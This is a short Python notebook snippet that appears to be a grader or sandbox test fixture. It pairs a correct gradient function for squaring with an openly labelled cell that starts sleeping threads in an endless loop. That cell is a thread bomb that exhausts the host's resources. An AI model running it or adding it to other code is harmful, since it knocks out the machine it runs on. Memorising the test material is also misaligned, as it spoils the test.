# A right answer, and a cell that starts threads without end.
# loses: nothing
# %% square
def square_backward(x, dy):
    return 2 * x * dy
# %% own
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
